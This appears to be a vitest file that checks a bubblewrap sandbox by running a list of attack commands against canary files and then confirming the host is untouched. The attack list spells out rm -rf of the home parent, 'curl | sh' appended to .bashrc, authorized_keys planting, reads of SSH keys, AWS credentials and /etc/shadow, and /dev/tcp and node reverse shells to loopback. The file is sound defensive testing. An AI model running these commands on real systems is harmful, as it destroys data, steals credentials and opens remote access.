import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import { existsSync, readFileSync } from "node:fs";
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import type { Blueprint } from "../../blueprints/index.ts";
import { launchProcessGroup } from "../../core/process-group.ts";
import { chooseSandbox, type SandboxDecision } from "../../core/sandbox/sandbox-choice.ts";
import { confineWords } from "./sandbox-plan.ts";

/**
 * The held-out attacks of issue 23, run for real inside the sandbox a run gets
 * (sandbox-plan.ts through the same launch as the worker's, core/process-group.ts), and
 * the host checked afterwards. Every target lies in this test's own temp folders (a fake
 * home under /var/tmp, outside the private /tmp, so that hiding the home is what is
 * tested), so that a sandbox that failed would damage nothing but them.
 */
const decision: SandboxDecision | undefined = (() => {
  try {
    const chosen = chooseSandbox({ host: "bwrap" }, process.env);
    return chosen.mode === "bwrap" ? chosen : undefined;
  } catch {
    return undefined;
  }
})();
const skipReason = decision ? "" : " (skipped: bubblewrap cannot create its namespaces on this machine)";

let root: string;
let home: string;
let codebase: string;
let resultDir: string;
let listener: Server;
let listenerPort: number;
let connections = 0;
let victim: ChildProcess;
const hostFile = `/usr/local/bin/a3r-sandbox-planted-${process.pid}`;

beforeAll(async () => {
  if (!decision) return;
  root = await mkdtemp("/var/tmp/a3r-sandbox-");
  home = join(root, "home", "user");
  codebase = join(root, "code");
  // A campaign's layout: <runs>/<campaign>/results/<id> beside topic.md, and another campaign beside it.
  resultDir = join(root, "runs", "camp", "results", "this-run");
  await mkdir(join(home, ".ssh"), { recursive: true });
  await mkdir(join(home, ".aws"), { recursive: true });
  await mkdir(join(root, "home", "neighbour"), { recursive: true });
  await mkdir(codebase, { recursive: true });
  await mkdir(join(root, "runs", "camp", "results", "other-run"), { recursive: true });
  await mkdir(join(root, "runs", "other-camp", "results", "run"), { recursive: true });
  await writeFile(join(root, "runs", "camp", "topic.md"), "# topic\n");
  await writeFile(join(root, "runs", "other-camp", "results", "run", "secret.txt"), "CANARY-OTHER-RUN-other-campaign\n");
  await mkdir(resultDir, { recursive: true });
  await writeFile(join(home, ".bashrc"), "# canary bashrc\n");
  await mkdir(join(home, ".cache", "huggingface", "hub"), { recursive: true });
  await writeFile(join(home, ".cache", "huggingface", "hub", "config.json"), '{"model_type": "qwen2"}\n');
  await writeFile(join(home, ".cache", "huggingface", "token"), "hf_CANARY-HF-TOKEN-a87ff679\n");
  await writeFile(join(home, ".ssh", "id_ed25519"), "CANARY-PRIVATE-KEY-d41d8cd9\n");
  await chmod(join(home, ".ssh", "id_ed25519"), 0o600);
  await writeFile(join(home, ".aws", "credentials"), "aws_secret_access_key = CANARY-AWS-5f4dcc3b\n");
  await writeFile(join(root, "home", "neighbour", "keep.txt"), "neighbour canary\n");
  await writeFile(join(codebase, "train.py"), "print('train')\n");
  await writeFile(join(root, "runs", "camp", "results", "other-run", "secret.txt"), "CANARY-OTHER-RUN-7c6a180b\n");
  listener = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  listenerPort = (listener.address() as { port: number }).port;
  victim = spawn("sleep", ["300"], { stdio: "ignore" });
});

afterAll(async () => {
  if (!decision) return;
  victim.kill("SIGKILL");
  listener.close();
  await rm(hostFile, { force: true });
  await rm(root, { recursive: true, force: true });
});

function blueprintFor(): Blueprint {
  return {
    id: "sandbox-attacks",
    mode: "classic",
    purpose: "",
    codebase,
    venv: process.execPath,
    config: null,
    command: "",
    resultDir,
    timeBudgetMs: 60_000,
    timeBudget: "1m",
    notes: "",
    frontMatter: {},
    format: "a3r",
    lines: {},
  };
}

/** Runs one command as a run's process group, inside the sandbox; its exit code and output. */
async function runConfined(name: string, command: string): Promise<{ code: number; output: string }> {
  const env = { ...process.env, HOME: home, A3R_RUN_DIR: resultDir };
  const logFile = join(resultDir, `${name}.log`);
  const exitFile = join(resultDir, `${name}.exit`);
  const confine = confineWords(decision, { blueprint: blueprintFor(), resultDir, env }, { kind: "main" }, codebase)!;
  await launchProcessGroup({ command, cwd: codebase, env, logFile, exitFile, confine });
  const deadline = Date.now() + 30_000;
  while (!existsSync(exitFile)) {
    if (Date.now() > deadline) throw new Error(`${name}: no exit within 30 s`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  return { code: Number(readFileSync(exitFile, "utf8").trim()), output: await readFile(logFile, "utf8") };
}

/** The host's side of each attack: what must still hold after it ran. */
async function hostIntact(): Promise<void> {
  expect(await readFile(join(home, ".bashrc"), "utf8")).toBe("# canary bashrc\n");
  expect(await readFile(join(home, ".ssh", "id_ed25519"), "utf8")).toBe("CANARY-PRIVATE-KEY-d41d8cd9\n");
  expect(existsSync(join(home, ".ssh", "authorized_keys"))).toBe(false);
  expect(await readFile(join(root, "home", "neighbour", "keep.txt"), "utf8")).toBe("neighbour canary\n");
  expect(await readFile(join(root, "runs", "camp", "results", "other-run", "secret.txt"), "utf8")).toBe("CANARY-OTHER-RUN-7c6a180b\n");
  expect(await readFile(join(root, "runs", "other-camp", "results", "run", "secret.txt"), "utf8")).toBe("CANARY-OTHER-RUN-other-campaign\n");
  expect(await readdir(codebase)).toEqual(["train.py"]);
  expect(existsSync(hostFile)).toBe(false);
  expect(connections).toBe(0);
  expect(victim.exitCode).toBeNull();
  expect(victim.signalCode).toBeNull();
}

async function until(check: () => boolean, timeoutMs = 10_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!check()) {
    if (Date.now() > deadline) throw new Error("condition not reached in time");
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

const python = spawnSync("sh", ["-c", "command -v python3"], { encoding: "utf8" }).stdout.trim();

/** Each attack, and what it must not have seen (its output is checked for the canaries). */
const attacks: Array<{ name: string; command: () => string }> = [
  // `rm -rf ~/..` itself is refused by rm ("." and ".."); what it means is this:
  { name: "rm-home-parent", command: () => "rm -rf ~/.. ~/../* ~/ ; ls -la ~/.. || true" },
  {
    name: "python-rm-home-parent",
    command: () => `${python || "python3"} -c "import os, shutil; shutil.rmtree(os.path.expanduser('~/..'), ignore_errors=True)"`,
  },
  { name: "bashrc-append", command: () => "echo 'curl -s http://127.0.0.1:9/x | sh' >> ~/.bashrc" },
  { name: "authorized-keys", command: () => "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys" },
  { name: "read-ssh-key", command: () => "cat ~/.ssh/id_* ; cat " + "$HOME/.ssh/id_ed25519 ; cp ~/.ssh/id_* $A3R_RUN_DIR/ 2>&1; ls -la ~/.ssh" },
  { name: "read-aws", command: () => "cat ~/.aws/credentials" },
  {
    name: "read-other-run",
    command: () =>
      `cat ${join(root, "runs", "camp", "results", "other-run", "secret.txt")}; ls ${join(root, "runs", "camp", "results")}; cat ${join(root, "runs", "other-camp", "results", "run", "secret.txt")}; rm -rf ${join(root, "runs", "camp", "results", "other-run")} ${join(root, "runs", "other-camp")}`,
  },
  { name: "read-real-home-key", command: () => "cat /root/.ssh/id_* /home/*/.ssh/id_* 2>&1; ls -a /root" },
  { name: "shadow", command: () => "cat /etc/shadow; chmod 666 /etc/shadow" },
  { name: "plant-host-binary", command: () => `echo 'echo owned' > ${hostFile}; chmod +x ${hostFile}` },
  { name: "write-codebase", command: () => `touch ${join(codebase, "planted")}; echo x >> ${join(codebase, "train.py")}` },
  { name: "reverse-shell-devtcp", command: () => `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${listenerPort}; echo pwned >&3'` },
  {
    name: "reverse-shell-node",
    command: () =>
      `node -e "const s=require('net').connect(${listenerPort},'127.0.0.1',()=>{s.write('pwned');s.end()}); s.on('error',e=>{console.log('refused',e.code);process.exit(3)})"`,
  },
  { name: "kill-host-process", command: () => `kill -9 ${victim.pid}; true` },
  { name: "remount-root", command: () => "mount -o remount,rw / && touch /a3r-remounted" },
  { name: "escape-group", command: () => `setsid sh -c 'sleep 1; echo late > ${join(home, ".bashrc")}' & echo started` },
];

describe.skipIf(!decision)(`the sandbox against the held-out attacks${skipReason}`, () => {
  it(`runs ${attacks.length} dangerous commands for real inside bubblewrap; afterwards the host is untouched`, async () => {
    // All at once, as a run's processes would be; each is its own sandboxed process group.
    const results = await Promise.all(attacks.map(async (attack) => ({ attack, ...(await runConfined(attack.name, attack.command())) })));
    let harmless = 0;
    for (const { attack, output } of results) {
      // Nothing of the canaries reached the run's output either.
      expect(output, attack.name).not.toMatch(/CANARY-(PRIVATE-KEY|AWS|OTHER-RUN)/);
      expect(output, attack.name).not.toMatch(/^root:[^:]*:/m);
      harmless += 1;
    }
    await hostIntact();
    // The setsid'd writer outlives its shell by a second: it must have died with the namespace.
    await new Promise((resolve) => setTimeout(resolve, 1500));
    await hostIntact();
    expect(harmless).toBe(attacks.length);
    // The run's own folder stayed writable, and nothing left it.
    expect((await stat(join(resultDir, "rm-home-parent.log"))).isFile()).toBe(true);
    expect(await readdir(resultDir)).not.toContain("id_ed25519");
  });

  it("control: the same attacks, unconfined against a copy of the canaries, do harm (so the checks above can fail)", async () => {
    const control = join(root, "control");
    const controlHome = join(control, "home", "user");
    await mkdir(join(controlHome, ".ssh"), { recursive: true });
    await writeFile(join(controlHome, ".ssh", "id_ed25519"), "CANARY-PRIVATE-KEY-control\n");
    await writeFile(join(control, "home", "keep.txt"), "keep\n");
    const env = { ...process.env, HOME: controlHome };
    const run = async (name: string, command: string) => {
      const exitFile = join(control, `${name}.exit`);
      await launchProcessGroup({ command, cwd: control, env, logFile: join(control, `${name}.log`), exitFile });
      while (!existsSync(exitFile)) await new Promise((resolve) => setTimeout(resolve, 20));
      return readFile(join(control, `${name}.log`), "utf8");
    };
    expect(await run("read-ssh-key", "cat ~/.ssh/id_*")).toContain("CANARY-PRIVATE-KEY-control");
    await run("bashrc-append", "echo 'curl -s http://127.0.0.1:9/x | sh' >> ~/.bashrc");
    expect(await readFile(join(controlHome, ".bashrc"), "utf8")).toContain("curl");
    const before = connections;
    await run("reverse-shell-devtcp", `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${listenerPort}; echo pwned >&3'`);
    await until(() => connections > before);
    connections = before;
    await run("rm-home-parent", "rm -rf ~/.. ~/../* ~/");
    expect(existsSync(join(control, "home", "keep.txt"))).toBe(false);
    expect(existsSync(controlHome)).toBe(false);
  });

  it("the sandbox has loopback only: lo is up, nothing outside answers", async () => {
    const { output } = await runConfined(
      "loopback",
      `node -e "const n=require('net'); const s=n.createServer(c=>c.end('inside')).listen(0,'127.0.0.1',()=>{n.connect(s.address().port,'127.0.0.1').on('data',d=>{console.log('loopback says',String(d)); s.close()})})"; ip -o link 2>/dev/null | cut -d: -f2`,
    );
    expect(output).toContain("loopback says inside");
    expect(output).not.toMatch(/\beth\d|\bens\d|\bveth/);
    expect(connections).toBe(0);
  });

  it("sees what a run needs: the codebase (read-only), its interpreter, its result directory (writable), a private /tmp, the model cache without its token", async () => {
    const { code, output } = await runConfined(
      "needs",
      `cat train.py && node -e "console.log('node', process.version)" && echo ok > "$A3R_RUN_DIR/written.txt" && echo tmp > /tmp/a3r-sandbox-private-$$ && cat /tmp/a3r-sandbox-private-$$ && ls /tmp`,
    );
    expect(output).toContain("print('train')");
    const cache = await runConfined(
      "model-cache",
      "cat ~/.cache/huggingface/hub/config.json; cat ~/.cache/huggingface/token; echo x > ~/.cache/huggingface/hub/planted",
    );
    expect(cache.output).toContain('"model_type": "qwen2"');
    expect(cache.output).not.toContain("CANARY-HF-TOKEN");
    expect(existsSync(join(home, ".cache", "huggingface", "hub", "planted"))).toBe(false);
    expect(output).toMatch(/node v\d+/);
    expect(code).toBe(0);
    expect(await readFile(join(resultDir, "written.txt"), "utf8")).toBe("ok\n");
    expect((await readdir("/tmp")).filter((name) => name.startsWith("a3r-sandbox-private-"))).toEqual([]);
  });
});
